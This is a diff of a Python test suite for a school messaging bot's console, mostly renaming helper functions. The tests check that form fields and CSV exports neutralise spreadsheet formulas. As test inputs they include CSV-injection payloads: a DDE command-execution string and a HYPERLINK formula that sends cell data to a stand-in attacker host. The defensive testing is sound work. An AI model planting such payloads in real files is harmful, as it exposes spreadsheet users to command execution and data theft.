@@ -14,7 +14,7 @@ from bot.base.settings import ROOT
 from bot.runtime import Services
 from bot.store.announcements import announcements
 from bot.store.meetings import meetings
-from bot.web.console.registration import new_password
+from bot.web.console.registration import issue_password
 from tests.announcements.conftest import District
 from tests.conftest import Family
 from tests.roster.conftest import Roster, roster
@@ -65,7 +65,7 @@ def test_every_inbound_field_stays_text(
         stranger.text(payload(f"stranger{name}"))
     cells = ",".join('"' + payload(name).replace('"', '""') + '"' for name in ("school", "language", "role", "tags"))
     roster.read(f"phone,school,language,role,tags\n217-555-0123,{cells}\n2175550124,lincoln,es,,{payload('tag')!r}\n")
-    assert log_in(client, "root", new_password(services, "root", "administrator", "ana_ruiz")) == 302
+    assert log_in(client, "root", issue_password(services, "root", "administrator", "ana_ruiz")) == 302
     pages = crawl(client, ["/console/", "/console/cases/1", "/console/cases/2", "/console/cases/3"])
     assert len(pages) > 40 and {page.path: page.dangers for page in pages if page.dangers} == {}
     words = "".join(page.words for page in pages)
@@ -91,7 +91,7 @@ def test_every_field_of_every_form_stays_text(
     pages = crawl(client, ["/console/"])
     with services.database.read() as db:
         codes = [f"/m/{one}" for one in db.execute(select(announcements.announcements.c.code)).scalars()]
-        codes += [f"/g/{one}" for one in db.execute(select(meetings.gatherings.c.code)).scalars()]
+        codes += [f"/g/{one}" for one in db.execute(select(meetings.meetings.c.code)).scalars()]
     public = [page for path in codes for page in (look(client, path), look(client, f"{path}/kit")) if page]
     assert len(pages) > 40 and public
     assert {page.path: page.dangers for page in [*pages, *public] if page.dangers} == {}
@@ -99,7 +99,7 @@ def test_every_field_of_every_form_stays_text(
 
 
 def log_in_without_token(client: FlaskClient, services: Services) -> int:
-    password = new_password(services, "root", "administrator", "ana_ruiz")
+    password = issue_password(services, "root", "administrator", "ana_ruiz")
     return client.post("/console/login", data={"name": "root", "password": password}).status_code
 
 
@@ -108,8 +108,12 @@ def log_in_without_token(client: FlaskClient, services: Services) -> int:
 
 @pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "=cmd|' /C calc'!A0"])
 def test_no_cell_is_a_formula(cell: str) -> None:
-    assert csv_export.tame(cell) == "'" + cell and csv_export.tame(-3) == "-3" and csv_export.tame(None) == ""
-    assert csv_export.line([cell, "plain", 4, None]).startswith(("'", "\"'"))
+    assert (
+        csv_export.escape_cell(cell) == "'" + cell
+        and csv_export.escape_cell(-3) == "-3"
+        and csv_export.escape_cell(None) == ""
+    )
+    assert csv_export.format_line([cell, "plain", 4, None]).startswith(("'", "\"'"))
 
 
 def test_nobody_else_writes_csv() -> None:
@@ -127,23 +131,25 @@ def test_a_familys_question_is_no_formula_in_the_file(services: Services, client
     from bot.store.meetings import meeting_questions
 
     with services.database.write() as db:
-        meeting_questions.ask(
+        meeting_questions.add(
             db, services.database.vault, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date()
         )
-    assert log_in(client, "root", new_password(services, "root", "administrator", "ana_ruiz")) == 302
+    assert log_in(client, "root", issue_password(services, "root", "administrator", "ana_ruiz")) == 302
     files = [client.get(f"/console/gatherings/1/{one}.csv").text for one in ("questions", "families")]
     files += [client.get(f"/console/{one}.csv").text for one in ("attendance", "agents/drilled")]
     assert "'=HYPERLINK" in files[0]
-    assert not [row for file in files for row in file.splitlines() if row.lstrip('"').startswith(csv_export.FORMULA)]
+    assert not [
+        row for file in files for row in file.splitlines() if row.lstrip('"').startswith(csv_export.FORMULA_PREFIXES)
+    ]
 
 
 def test_a_report_of_a_roster_is_no_formula(roster: Roster, tmp_path: Path) -> None:
-    from bot.roster.report import write_to
+    from bot.roster.report import create_csv_writer
 
     roster.read("phone,school\n=cmd|' /C calc'!A0,@lincoln\n")
     path = tmp_path / "report.csv"
     with path.open("w", newline="") as file:
-        keep = write_to(file)
+        keep = create_csv_writer(file)
         for one in roster.findings:
             keep(one)
     assert path.read_text().count("\n") > 1
